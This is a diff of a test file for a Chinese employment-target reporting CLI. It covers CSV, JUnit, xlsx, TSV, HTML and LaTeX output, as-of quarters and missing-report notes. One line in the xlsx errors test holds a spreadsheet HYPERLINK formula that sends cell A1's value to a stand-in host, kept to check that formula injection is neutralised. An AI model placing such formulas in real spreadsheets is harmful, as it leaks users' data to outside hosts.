@@ -17,6 +17,7 @@ from conftest import FIXTURES, GOLDEN, ROOT, SAMPLE, run
 from regen_golden import CASES, produce
 
 from chuangye_cli.render import FORMATS, TABLE_FORMATS
+from chuangye_cli.render.formats import DATA_TABLE_FORMATS
 from chuangye_cli.render.csv import neutralise
 from chuangye_cli.judge.results import FAILING
 
@@ -91,6 +92,9 @@ def test_csv_reads_back_one_row_per_result(at_root, lang):
             assert float(rec[key[2]]) == res["actual"]  # exact, not rounded for display
     city = records[0]
     assert (city[key[0]], city[key[2]], city[key[4]]) == ("participants", "17370", "符合序时进度" if lang == "zh" else "on track")
+    # every row says when it was true; the sample is complete, so no row is flagged
+    assert header[-3:] == (["数据不全", "缺报（县(市)区 季度）", "统计截至"] if lang == "zh" else ["Incomplete", "Missing reports (district quarter)", "As of"])
+    assert {(r[header[-3]], r[header[-2]], r[header[-1]]) for r in records} == {("", "", "2010Q2")}
     level = next(r for r in records if r[key[0]] == "provincial_standard_others" and r[key[1]] == "370124")
     assert level[key[2]] == ("未达到" if lang == "zh" else "not attained")
 
@@ -183,7 +187,9 @@ def test_junit_has_a_failing_testcase_per_validation_error():
     assert failures[0].text == f"{BAD}, row 3, column 创业培训人数 [-5]: must not be negative"
     assert "12\ufffd34" in failures[2].text
     out = root.find("testsuite[@name='validation']/system-out").text.splitlines()
-    assert len(out) == 2 and out[0].endswith("unknown column, ignored") and "@cmd" in out[0]
+    # the rows with errors are reports all the same: as of 2009Q4, and 市中区 sent none of Q1-Q4
+    assert len(out) == 5 and out[0].endswith("unknown column, ignored") and "@cmd" in out[0]
+    assert out[1:] == [f"whole file: Shizhong (370103) has no report for 2009Q{q}" for q in range(1, 5)]
 
 
 # --------------------------------------------------------------------------- xlsx
@@ -202,7 +208,7 @@ def test_xlsx_reads_back(at_root, lang):
     result = run("check", "sample_data", "--format", "xlsx", "--lang", lang)
     assert result.exit_code == 1
     wb = read_xlsx(result.stdout_bytes)
-    names = {"zh": ["达标结果", "分县(市)区", "错误和警告"], "en": ["Results", "By district", "Errors and warnings"]}[lang]
+    names = {"zh": ["达标结果", "分县(市)区", "错误和警告", "说明"], "en": ["Results", "By district", "Errors and warnings", "About"]}[lang]
     assert wb.sheetnames == names
     data = sample_json()
     results = sheet_rows(wb[names[0]])
@@ -234,6 +240,12 @@ def test_xlsx_reads_back(at_root, lang):
     by_district = sheet_rows(wb[names[1]])
     assert len(by_district) == 1 + 10
     assert by_district[1][:2] == ["370102", "历下区" if lang == "zh" else "Lixia"]
+    # the last sheet says what the workbook is and when it was true: plan, period, as-of quarter
+    assert sheet_rows(wb[names[3]]) == (
+        [["方案", data["plan"]], ["方案期间", "2009Q1–2010Q4"], ["统计截至", "2010Q2"], ["生成工具", "chuangye"]]
+        if lang == "zh"
+        else [["Plan", data["plan"]], ["Plan period", "2009Q1–2010Q4"], ["As of", "2010Q2"], ["Written by", "chuangye"]]
+    )
     # the errors sheet: header only (the sample is clean)
     assert sheet_rows(wb[names[2]]) == [
         ["类别", "文件", "行", "列", "值", "问题", "问题代码"]
@@ -249,7 +261,7 @@ def test_xlsx_errors_sheet_lists_errors_and_warnings_neutralised(tmp_path):
     wb = openpyxl.load_workbook(out)
     rows = sheet_rows(wb["Errors and warnings"])
     assert rows[0] == ["Severity", "File", "Row", "Column", "Value", "Problem", "Code"]
-    assert [r[0] for r in rows[1:]] == ["error", "error", "error", "warning", "warning"]
+    assert [r[0] for r in rows[1:]] == ["error"] * 3 + ["warning"] * 5  # 市中区 sent none of Q1-Q4
     assert [r[2] for r in rows[1:4]] == [3, 4, 5]
     assert rows[1][4] == "-5"  # a number written as text is left alone
     assert rows[2][4] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
@@ -272,7 +284,7 @@ def test_xlsx_refused_on_a_terminal(monkeypatch, tmp_path):
     # with -o it is fine
     out = tmp_path / "r.xlsx"
     assert run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "xlsx", "-o", out).exit_code == 1
-    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告"]
+    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告", "说明"]
 
 
 # --------------------------------------------------------------------------- table formats
@@ -283,7 +295,41 @@ def test_every_table_format(fmt):
     result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt, "--lang", "en")
     assert result.exit_code == 1
     assert "Training pass rate" in result.stdout and "99.7" in result.stdout  # latex writes 99.7\%
-    assert result.stderr == ""
+    titles = ["测试方案", "As of 2009Q2 (plan period 2009Q1–2009Q4)"]
+    summary = "Summary: met 1, on track 3, pending 1, behind 1"
+    if fmt in DATA_TABLE_FORMATS:  # the table alone on stdout; titles and summary on stderr
+        assert result.stderr == "\n".join([*titles, summary]) + "\n"
+        assert summary not in result.stdout
+        assert (titles[1] in result.stdout) == (fmt == "html")  # html: in the table's own <caption>
+    else:
+        assert result.stderr == ""
+        assert result.stdout.startswith("\n".join(titles) + "\n")
+        assert result.stdout.endswith(summary + "\n")
+
+
+def test_tsv_is_plain_tab_separated_values():
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "tsv", "--lang", "en")
+    lines = result.stdout.splitlines()
+    assert lines[0] == "Target\tScope\tTarget value\tActual\tProgress/pro-rata\tStatus"  # no title line first
+    assert lines[1] == "Guidance and training participants\tcity\t>= 1,000\t750\t75.0% / 50.0%\ton track"  # no padding
+    assert len(lines) == 1 + 6 and all(line.count("\t") == 5 for line in lines)
+    rows = list(csv.reader(io.StringIO(result.stdout), delimiter="\t"))
+    assert [r[5] for r in rows[1:]] == ["on track", "met", "behind", "on track", "on track", "pending"]
+
+
+def test_html_table_carries_its_titles_as_the_caption():
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "html", "--lang", "en")
+    assert result.stdout.startswith(
+        "<table>\n<caption>测试方案<br>As of 2009Q2 (plan period 2009Q1–2009Q4)</caption>\n<thead>"
+    )
+    assert result.stdout.endswith("</table>\n")
+
+
+@pytest.mark.parametrize("fmt", ["latex", "latex_booktabs"])
+def test_latex_output_is_the_table_alone(fmt):
+    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt, "--lang", "en")
+    assert result.stdout.startswith("\\begin{tabular}")
+    assert result.stdout.endswith("\\end{tabular}\n")
 
 
 def test_formats_list():
@@ -310,7 +356,7 @@ def test_output_infers_format_from_extension(tmp_path, suffix, fmt):
 def test_output_xlsx_from_extension(tmp_path):
     out = tmp_path / "result.xlsx"
     assert run("check", SMALL, "--targets", SMALL_TARGETS, "--output", out).exit_code == 1
-    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告"]
+    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告", "说明"]
 
 
 def test_explicit_format_wins_over_extension(tmp_path):
@@ -425,3 +471,95 @@ def test_sample_folder_untouched_by_output(tmp_path):
         assert run("check", SAMPLE, "-o", tmp_path / f"r{suffix}").exit_code == 1
     assert {p: p.read_bytes() for p in SAMPLE.rglob("*") if p.is_file()} == before
     assert len(files_in(tmp_path)) == 6
+
+
+# --------------------------------------------------------------------------- incomplete quarters
+
+#: --as-of 2010Q4 on the sample (data up to 2010Q2): every figure lacks 2010Q3-Q4 of some district
+LATE = ["check", "sample_data", "--as-of", "2010Q4"]
+NOTE_EN = (
+    "Note *: figures built without the reports of Lixia (370102) 2010Q3–2010Q4; Shizhong (370103) 2010Q3–2010Q4; "
+    "Huaiyin (370104) 2010Q3–2010Q4; Tianqiao (370105) 2010Q3–2010Q4; Licheng (370112) 2010Q3–2010Q4; "
+    "Changqing (370113) 2010Q3–2010Q4; Pingyin (370124) 2010Q3–2010Q4; Jiyang (370125) 2010Q3–2010Q4; "
+    "Shanghe (370126) 2010Q3–2010Q4; Zhangqiu (370181) 2010Q3–2010Q4 (20 quarterly reports); a status marked * is "
+    "computed from the reports received and may change when these arrive."
+)
+NOT_REPORTED_EN = "Note: not reported = the district has no report for 2010Q4; its own results count as no data, not as a verdict."
+ALL_MISSING = "; ".join(
+    f"{c} {q}" for c in ("370102", "370103", "370104", "370105", "370112", "370113", "370124", "370125", "370126", "370181")
+    for q in ("2010Q3", "2010Q4")
+)  # fmt: skip
+
+
+def test_csv_marks_incomplete_results_and_says_when_it_was_true(at_root):
+    result = run(*LATE, "--format", "csv", "--lang", "en")
+    mark, _, body = result.stdout_bytes.decode("utf-8-sig").partition("\r\n")
+    assert mark.startswith("# chuangye")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    city = rows[0]
+    assert (city["Target id"], city["Status"], city["Status code"]) == ("participants", "not met*", "not_met")
+    assert (city["Incomplete"], city["Missing reports (district quarter)"], city["As of"]) == ("true", ALL_MISSING, "2010Q4")
+    lixia = next(r for r in rows if r["Target id"] == "district_incubators")
+    assert (lixia["Status"], lixia["Status code"], lixia["Actual"]) == ("not reported", "no_data", "")
+    assert lixia["Missing reports (district quarter)"] == "370102 2010Q3; 370102 2010Q4"
+    assert {r["As of"] for r in rows} == {"2010Q4"}
+    assert result.stderr.endswith(NOTE_EN + "\n" + NOT_REPORTED_EN + "\n")  # the footnote beside the file
+
+
+def test_junit_marks_incomplete_results(at_root):
+    result = run(*LATE, "--format", "junit", "--lang", "en")
+    targets = parse_junit(result.stdout_bytes).find("testsuite[@name='targets']")
+    cases = targets.findall("testcase")
+    props = {p.get("name"): p.get("value") for p in cases[0].findall("properties/property")}
+    assert props == {"incomplete": "true", "missing": ALL_MISSING}
+    assert cases[0].find("failure").get("message") == "not met*: actual 17,370, target >= 20,000"
+    lixia = next(c for c in cases if c.get("name") == "County/district-level incubators · Lixia (370102)")
+    assert lixia.find("failure").get("message") == "not reported: actual —, target >= 5"
+    assert targets.find("system-out").text == NOTE_EN + "\n" + NOT_REPORTED_EN
+
+
+def test_xlsx_marks_incomplete_results_and_explains_them(tmp_path, at_root):
+    out = tmp_path / "late.xlsx"
+    run(*LATE, "-o", out, "--lang", "en")
+    wb = openpyxl.load_workbook(out)
+    results = sheet_rows(wb["Results"])
+    col = {h: i for i, h in enumerate(results[0])}
+    assert [results[1][col[k]] for k in ("Status", "Status code", "Incomplete", "Missing reports (district quarter)")] == [
+        "not met*", "not_met", True, ALL_MISSING
+    ]
+    assert sheet_rows(wb["About"]) == [
+        ["Plan", "济南市开展创建创业型城市活动实施方案（济政办字〔2009〕67号）"],
+        ["Plan period", "2009Q1–2010Q4"],
+        ["As of", "2010Q4"],
+        ["Note", NOTE_EN],
+        ["Note", NOT_REPORTED_EN],
+        ["Written by", "chuangye"],
+    ]
+    assert sheet_rows(wb["By district"])[1][2:4] == ["not reported", "not reported"]
+
+
+def test_tsv_keeps_the_mark_and_sends_the_note_to_stderr(at_root):
+    result = run(*LATE, "--format", "tsv", "--lang", "en")
+    assert result.stdout.splitlines()[1].endswith("\tnot met*")
+    assert "Note" not in result.stdout
+    assert result.stderr.endswith("Summary: met 3, not met 5, not reported 20\n" + NOTE_EN + "\n" + NOT_REPORTED_EN + "\n")
+
+
+@pytest.mark.parametrize(
+    "args, header",
+    [
+        (["kpis", "sample_data"], "范围\t创业带动就业倍增\t创业活动对就业的贡献率\t创业环境满意度"),
+        (["targets"], "编号\t名称\t口径\t目标值\t范围\t期限"),
+        (["validate", "sample_data"], "文件\t编码\t数据行数"),
+        (["roster", "tests/fixtures/roster/good.csv"], None),
+    ],
+)
+def test_every_command_writes_tsv_unpadded_with_the_titles_on_stderr(at_root, args, header):
+    result = run(*args, "--format", "tsv")
+    lines = result.stdout.splitlines()
+    if header is not None:
+        assert lines[0] == header  # the table first: no title line
+    width = lines[0].count("\t")
+    assert width > 0 and all(line.count("\t") == width for line in lines)
+    assert not [cell for line in lines for cell in line.split("\t") if cell != cell.strip()]  # no padding
+    assert result.stderr  # the titles (or validate's verdict) went there
